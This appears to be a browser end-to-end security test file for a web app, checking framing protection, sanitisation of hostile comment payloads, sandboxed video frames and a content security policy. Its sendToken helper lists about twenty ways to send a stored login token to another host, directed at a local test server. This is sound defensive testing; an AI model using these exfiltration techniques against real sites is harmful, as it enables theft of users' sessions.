import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { paths } from '@gemas/domain';
import { ELSEWHERE, payloads } from '@gemas/mocks/payloads';
import { expect, test } from './harness.ts';
import { FERNANDA } from './personas.ts';
import { enter, heading, loginCode, recordRequests } from './steps.ts';

interface Foreign {
  origin: string;
  /** Paths that were requested from this server. */
  asked: string[];
  close(): void;
}

/** Serves the same page at every path of another origin. */
async function servePage(html: string): Promise<Foreign> {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, outgoing) => {
    asked.push(url);
    outgoing.writeHead(200, { 'Content-Type': 'text/html' }).end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  const { port } = server.address() as AddressInfo;
  const close = () => {
    server.close();
    server.closeAllConnections();
  };
  return { origin: `http://localhost:${port}`, asked, close };
}

test('a page of another origin cannot frame the app and cannot access a window with the app', async ({
  page,
  site,
  violations,
}) => {
  const address = `${site.address}?code=${await loginCode(FERNANDA)}`;
  const foreign = await servePage(`<iframe src="${address}"></iframe><h1>Premios gratis</h1>`);
  const refused = page.waitForEvent('console', (message) => /frame/i.test(message.text()));
  await page.goto(foreign.origin);
  expect((await refused).text()).toMatch(/frame-ancestors|X-Frame-Options/i);
  const frames = page.frames().filter((frame) => frame !== page.mainFrame());
  expect(frames.map((frame) => frame.url())).not.toContain(address);

  const [opened] = await Promise.all([
    page.waitForEvent('popup'),
    page.evaluate((to) => {
      Object.assign(window, { opened: window.open(to) });
    }, address),
  ]);
  await expect(heading(opened, /Ávila/)).toBeVisible();
  // The `Cross-Origin-Opener-Policy` headers of the pages differ, so the opened window looks closed to its opener.
  const seen = () => page.evaluate(() => (window as unknown as { opened: Window }).opened.closed);
  await expect.poll(seen).toBe(true);
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  foreign.close();
  // Removes an expected report: the browser has refused to show the app in a frame.
  violations.length = 0;
});

/** With this number, all comments fit on one screen and are rendered. payloads.spec.ts shows each payload alone. */
const PAYLOADS_PER_COMMENT = 30;

test('a thread with all hostile comments runs no script and sends no request to another host', async ({
  page,
  site,
  violations,
}) => {
  const [ticket] = site.db.account(FERNANDA).state.tickets;
  if (!ticket) throw new Error('Fernanda has no ticket');
  ticket.title = payloads[0]?.[1] ?? '';
  ticket.comments = [];
  for (let at = 0; at < payloads.length; at += PAYLOADS_PER_COMMENT) {
    const html = payloads.slice(at, at + PAYLOADS_PER_COMMENT).map(([, payload]) => payload);
    ticket.comments.push({
      user: html.join(''),
      content: `<p>Comentario ${at}</p>${html.join('')}`,
      time_ago: 'hoy',
    });
  }
  const asked: string[] = [];
  await page.route(`**://${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  await page.addInitScript(() => {
    Object.defineProperty(window, 'pwned', {
      set: () => Object.assign(window, { hasRun: true }),
    });
  });
  await enter(page, FERNANDA, `#${paths.ticket(ticket.id)}`);
  await expect(page.getByText(/^Comentario /)).toHaveCount(ticket.comments.length);
  const hostile = page.locator(
    'main :is(script, style, iframe, object, embed, form, [onerror], [onload], [srcdoc])',
  );
  await expect(hostile).toHaveCount(0);
  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
  expect(asked).toEqual([]);
  // Removes expected reports: event handlers are also blocked in the document in which HTML is sanitised.
  violations.length = 0;
});

test('a video loads only after a tap, in a sandboxed frame that the policy allows', async ({
  page,
}) => {
  await page.route(/vimeo/, (route) => route.fulfill({ contentType: 'text/html', body: '' }));
  const asked = recordRequests(page, /youtube|vimeo/);
  await enter(page, FERNANDA, `#${paths.help('materials')}`);
  const play = page.getByRole('button', { name: 'Ver video: Canjea en la bóveda' });
  await expect(play).toBeVisible();
  expect(asked).toEqual([]);
  await play.click();
  const player = page.getByTitle('Canjea en la bóveda');
  await expect(player).toHaveAttribute(
    'sandbox',
    'allow-scripts allow-same-origin allow-presentation',
  );
  await expect.poll(() => asked).toEqual(['https://player.vimeo.com/video/76979871?autoplay=1']);
});

/** Sends the token to another host in every way that does not leave the page. Runs in the page. */
function sendToken(host: string): void {
  const to = (way: string) => `${host}/${way}?${localStorage.token}`;
  const add = (name: string, attributes: Record<string, string>) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(key, value);
      } catch {
        // Ignores the error that Trusted Types throw for some attributes, such as `src` of a script.
      }
    }
    document.body.append(element);
    return element;
  };
  const ways: (() => unknown)[] = [
    () => fetch(to('fetch'), { mode: 'no-cors' }).catch(() => undefined),
    () => navigator.sendBeacon(to('beacon')),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'));
      request.send();
    },
    () => new EventSource(to('events')),
    () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new Worker(to('worker')),
    () => navigator.serviceWorker?.register(to('service-worker')).catch(() => undefined),
    () => import(/* @vite-ignore */ to('import')).catch(() => undefined),
    () => add('script', { src: to('script') }),
    () => add('img', { src: to('img') }),
    () => add('video', { src: to('video') }),
    () => add('iframe', { src: to('iframe') }),
    () => add('object', { data: to('object') }),
    () => add('embed', { src: to('embed') }),
    () => add('link', { rel: 'stylesheet', href: to('stylesheet') }),
    () => add('link', { rel: 'prefetch', href: to('prefetch') }),
    () => add('link', { rel: 'preload', as: 'fetch', href: to('preload') }),
    () => add('link', { rel: 'manifest', href: to('manifest') }),
    () => add('p', {}).style.setProperty('background', `url(${to('style')})`),
    () => new FontFace('a', `url(${to('font')})`).load().catch(() => undefined),
    () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // Ignores the error of a request that the content security policy blocks.
    }
  }
}

test('a script in the page can send the token to another host only by leaving the page', async ({
  page,
  violations,
}) => {
  const foreign = await servePage('<h1>Ajena</h1>');
  await enter(page, FERNANDA);
  await expect(heading(page, /Ávila/)).toBeVisible();
  await page.evaluate(sendToken, foreign.origin);
  // Waits until more than 15 requests have been blocked. By that time, a request that was not blocked would have
  // reached the other host.
  await expect.poll(() => violations.length).toBeGreaterThan(15);
  const token = await page.evaluate(() => localStorage.token);
  expect(foreign.asked).toEqual([]);
  // A content security policy cannot prevent a page from navigating away (docs/security.md).
  await page.evaluate((to) => window.location.assign(to), `${foreign.origin}/left?${token}`);
  await expect(heading(page, 'Ajena')).toBeVisible();
  expect(foreign.asked).toContain(`/left?${token}`);
  expect(foreign.asked.filter((url) => url !== '/favicon.ico')).toHaveLength(1);
  foreign.close();
  violations.length = 0;
});
